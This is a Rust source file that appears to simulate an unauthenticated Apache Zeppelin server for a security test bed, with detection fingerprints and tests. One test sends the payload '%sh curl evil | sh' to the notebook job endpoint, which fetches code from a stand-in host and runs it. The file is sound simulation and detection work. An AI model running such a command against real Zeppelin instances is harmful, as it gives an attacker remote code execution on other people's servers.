//! Apache Zeppelin model.
//!
//! * No authentication by default (Shiro must be configured manually).
//! * Detection: `GET /api/notebook` contains `{"status":"OK",`.
//! * Abuse surface: paragraphs execute code (the `%sh` interpreter runs
//!   shell commands directly).

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Zeppelin {
    pub(crate) base: BaseApp,
    notes: Vec<String>,
}

impl Zeppelin {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Zeppelin {
            base: BaseApp::new(AppId::Zeppelin, version, config),
            notes: Vec::new(),
        }
    }

    fn open(&self) -> bool {
        !self.base.config.auth_enabled
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::html(html::page_with_head(
                "Apache Zeppelin",
                &html::script("/app/home/home.html.js"),
                &format!(
                    "<div ng-app=\"zeppelinWebApp\" class=\"zeppelin-web\">\
                     Apache Zeppelin {}</div>",
                    self.base.version.number()
                ),
            ))
            .into(),
            (nokeys_http::Method::Get, "/api/version") => Response::json(format!(
                "{{\"status\":\"OK\",\"message\":\"Zeppelin version\",\"body\":{{\"version\":\"{}\"}}}}",
                self.base.version.number()
            ))
            .into(),
            (nokeys_http::Method::Get, "/api/notebook") => {
                if self.open() {
                    Response::json("{\"status\":\"OK\",\"message\":\"\",\"body\":[]}").into()
                } else {
                    Response::new(StatusCode::FORBIDDEN)
                        .with_header("Content-Type", "application/json")
                        .with_body(r#"{"status":"FORBIDDEN","message":"Authentication required"}"#)
                        .into()
                }
            }
            (nokeys_http::Method::Post, "/api/notebook") => {
                if self.open() {
                    self.notes.push(req.body_text());
                    Response::json("{\"status\":\"OK\",\"body\":\"note-1\"}").into()
                } else {
                    Response::new(StatusCode::FORBIDDEN).into()
                }
            }
            (nokeys_http::Method::Post, p) if p.starts_with("/api/notebook/job/") => {
                if self.open() {
                    let command = req.body_text();
                    HandleOutcome::with_event(
                        Response::json("{\"status\":\"OK\"}"),
                        AppEvent::CommandExecuted { command },
                    )
                } else {
                    Response::new(StatusCode::FORBIDDEN).into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.notes.clear();
    }
}

impl_webapp!(Zeppelin, Zeppelin::reset_state);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn default_latest() -> Zeppelin {
        let v = *release_history(AppId::Zeppelin).last().unwrap();
        Zeppelin::new(v, AppConfig::default_for(AppId::Zeppelin, &v))
    }

    #[test]
    fn open_by_default_with_status_ok() {
        let mut app = default_latest();
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/api/notebook").response.body_text();
        assert!(body.starts_with("{\"status\":\"OK\","), "{body}");
    }

    #[test]
    fn shiro_protected_instance_forbids() {
        let v = *release_history(AppId::Zeppelin).last().unwrap();
        let mut app = Zeppelin::new(v, AppConfig::secure_for(AppId::Zeppelin, &v));
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/api/notebook");
        assert_eq!(out.response.status.as_u16(), 403);
        assert!(!out.response.body_text().starts_with("{\"status\":\"OK\","));
    }

    #[test]
    fn paragraph_run_is_code_execution() {
        let mut app = default_latest();
        let _ = DRIVER.post(&mut app, "/api/notebook", "{\"name\":\"n\"}");
        let out = DRIVER.post(&mut app, "/api/notebook/job/note-1", "%sh curl evil | sh");
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("%sh")
        ));
    }

    #[test]
    fn ui_has_angular_markers() {
        let mut app = default_latest();
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("zeppelinWebApp"));
        assert!(body.contains("Apache Zeppelin"));
    }
}
